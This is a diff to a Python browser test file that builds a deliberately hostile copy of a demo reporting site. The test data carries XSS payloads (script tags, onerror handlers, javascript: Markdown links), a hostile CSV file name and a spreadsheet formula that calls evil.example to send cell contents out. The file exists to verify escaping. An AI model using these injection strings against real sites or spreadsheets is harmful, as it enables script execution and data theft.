@@ -24,6 +24,7 @@ from pathlib import Path
 from typing import Any, Literal
 from urllib.parse import urlparse
 
+import hostile
 import pytest
 import yaml
 from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, Route, ViewportSize, sync_playwright
@@ -38,20 +39,45 @@ PUBLISHED_MONTHS = ("2026-09", "2026-10")
 
 # Person-written text that must show as text and never run (see hostile_site).
 HOSTILE_MENTION = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> terrible awful service'
+FORMULA_MENTION = '=HYPERLINK("https://evil.example/?c="&A1,"terrible awful, click") service'
 HOSTILE_TITLE = 'Mentions <img src=x onerror="window.__pwned=3"> that shout'
+# Markdown that became live javascript: links before (trust review): in a header's description, a tile label, a check
+# name, and an export's file name.
+MARKDOWN_LINK = (
+    "[read more](javascript:window.__pwned=7) ![x](javascript:window.__pwned=8) {: onclick=window.__pwned=9 }"
+)
+HOSTILE_FILE = "inbox [notes](javascript:window.__pwned=10) <img src=x onerror=window.__pwned=11>.csv"
 HOSTILE_QUERY = f"""/* ---
 title: '{HOSTILE_TITLE}'
-description: 'Written to check escaping: <script>window.__pwned=4</script> must show as text.'
+description: 'Written to check escaping: <script>window.__pwned=4</script> must show as text. {MARKDOWN_LINK}'
 unit: mentions
 grain: mention text
 pillar: reputation
 chart: {{type: bar, x: text, y: mentions}}
+checks:
+  - name: "[every row](javascript:window.__pwned=12) is fine"
+    sql: SELECT 1 WHERE false
 --- */
 SELECT text, count(*)::INTEGER AS mentions
 FROM mentions
 WHERE contains(text, 'terrible awful')
 GROUP BY text
 ORDER BY text
+"""
+HOSTILE_TILES = """/* ---
+title: Shouting weeks
+unit: mentions
+grain: week
+pillar: reputation
+chart: {x: week, y: mentions}
+tiles:
+  - label: "[shouts](javascript:window.__pwned=13) a week"
+    value: sum(mentions)
+--- */
+SELECT date_trunc('week', published_at)::DATE AS week, count(*)::INTEGER AS mentions
+FROM mentions
+GROUP BY ALL
+ORDER BY week
 """
 
 
@@ -167,16 +193,25 @@ def published_site(demo_project: Path) -> Iterator[Served]:
 
 @pytest.fixture(scope="session")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
-    """A Spanish copy of the demo whose data carries HTML: a mention with <script> and onerror=, a title with <img>.
+    """A Spanish copy of the demo whose data and queries are hostile, built with the commands a person types.
 
-    The copy gets its own queries/ folder (the demo's config points at the repository's) with one extra query that
-    charts the hostile mention, so the text reaches a chart, its table, its CSV and the page title.
+    - mentions carrying HTML (<script>, onerror=) and a spreadsheet formula, charted by one extra query, so the text
+      reaches a chart, its table, its CSV and the page title;
+    - the planted personal data of tests/hostile.py (handles, emails, phone numbers in every form, in mentions,
+      inbox messages, posts and rejected rows), in exports of the real layouts, one of them under a hostile name;
+    - query headers with HTML and Markdown links in a title, a description, a tile label and a check name.
+
+    The copy gets its own queries/ folder (the demo's config points at the repository's).
     """
     folder = tmp_path_factory.mktemp("browser-hostile")
     config_path = write_demo_project(folder, root=ROOT)
-    _add_hostile_mention(folder / "exports")
+    _add_hostile_mentions(folder / "exports")
+    planted = hostile.write_hostile_exports(folder / "exports" / "hostile")
+    inbox = next(p for p in planted.files if p.name.startswith("inbox"))
+    inbox.rename(inbox.with_name(HOSTILE_FILE))
     shutil.copytree(ROOT / "queries", folder / "queries")
     (folder / "queries" / "reputation" / "shouting_mentions.sql").write_text(HOSTILE_QUERY, encoding="utf-8")
+    (folder / "queries" / "reputation" / "shouting_weeks.sql").write_text(HOSTILE_TILES, encoding="utf-8")
     config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
     config["queries"] = "queries"
     config["site"]["language"] = "es"  # and in Spanish, so the charts' own words are checked too
@@ -187,32 +222,33 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
         yield served
 
 
-def _add_hostile_mention(exports: Path) -> None:
-    """Append one mention to the newest Brandwatch export, copying a real row's shape (same columns and quoting)."""
+def _add_hostile_mentions(exports: Path) -> None:
+    """Append two mentions to the newest Brandwatch export, copying a real row's shape (same columns and quoting)."""
     path = sorted(exports.rglob("brandwatch_mentions_*.csv"))[-1]
     text = path.read_text(encoding="utf-8")
     _, _, table = text.partition("\n\n")
     reader = list(csv.DictReader(io.StringIO(table)))
-    row = dict(reader[-1])
-    row.update(
-        {
-            "Date": row["Date"][:10] + " 08:00:00.0",
-            "Snippet": HOSTILE_MENTION,
-            "Full Text": HOSTILE_MENTION,
-            "Url": "https://x.com/someone_angry/status/1999999999999999999",
-            "Domain": "x.com",
-            "Sentiment": "negative",
-            "Page Type": "twitter",
-            "Thread Entry Type": "post",
-            "Language": "en",
-            "Author": "someone_angry",
-            "Full Name": "Someone Angry",
-            "Thread Id": "1999999999999999999",
-        }
-    )
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=list(reader[0].keys()), lineterminator="\n")
-    writer.writerow(row)
+    for number, body in enumerate((HOSTILE_MENTION, FORMULA_MENTION)):
+        row = dict(reader[-1])
+        row.update(
+            {
+                "Date": row["Date"][:10] + f" 08:0{number}:00.0",
+                "Snippet": body,
+                "Full Text": body,
+                "Url": f"https://x.com/someone_angry/status/199999999999999999{number}",
+                "Domain": "x.com",
+                "Sentiment": "negative",
+                "Page Type": "twitter",
+                "Thread Entry Type": "post",
+                "Language": "en",
+                "Author": "someone_angry",
+                "Full Name": "Someone Angry",
+                "Thread Id": f"199999999999999999{number}",
+            }
+        )
+        writer.writerow(row)
     path.write_text(text.rstrip("\n") + "\n" + out.getvalue(), encoding="utf-8")
 
 
